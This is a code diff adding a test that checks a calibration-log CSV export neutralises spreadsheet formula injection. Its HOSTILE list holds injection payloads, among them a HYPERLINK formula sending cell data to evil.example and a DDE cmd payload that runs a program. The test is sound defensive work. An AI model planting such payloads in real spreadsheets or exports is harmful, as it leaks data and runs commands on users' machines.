@@ -85,3 +85,27 @@ async def test_reconciliation_digest_and_export(scenario_harness: object, tmp_pa
         one = await export_rows(env.config, env.app.feishu, env.client, "acme", device="CT-0003")
         assert one and {r["device_id"] for r in one} == {"CT-0003"}
         assert any(r["action"] == "retired" for r in one)
+
+
+HOSTILE = ['=HYPERLINK("https://evil.example/?d="&A1,"详情")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+           "\t=1+1", "\r=1+1", "＝1+1"]
+
+
+async def test_export_writes_formula_cells_as_text(scenario_harness: object, tmp_path: Path) -> None:
+    """Log cells typed into Bitable reach the audit CSV as text a spreadsheet will not run."""
+    async with scenario_harness({"device_calibration": device_calibration},  # type: ignore[operator]
+                                config=_config()) as env:
+        h.seed(env.standin, {})
+        env.standin.state.merge_json({"bitable": {h.APP: {h.LOG: {"records": [
+            {"record_id": f"recLog{i}", "fields": {
+                "日志编号": f"acme:device_calibration:CT-0009:calibration:1:{i}", "设备编号": "CT-0009",
+                "类别": "calibration", "周期": 1, "动作": "confirmed", "操作人": "ou_x", "时间": 1_790_000_000_000 + i,
+                "原因": text, "详情": "-0.3"}} for i, text in enumerate([*HOSTILE, "校准合格，偏差 0.2%"])]}}}})
+        rows = await export_rows(env.config, env.app.feishu, env.client, "acme", device="CT-0009")
+        out = tmp_path / "audit.csv"
+        write_csv(rows, out)
+        with out.open(encoding="utf-8-sig", newline="") as handle:
+            read = list(csv.DictReader(handle))
+    reasons = [r["reason"] for r in read]
+    assert reasons == [*("'" + text for text in HOSTILE), "校准合格，偏差 0.2%"]
+    assert {r["detail"] for r in read} == {"-0.3"}  # a number stays a number
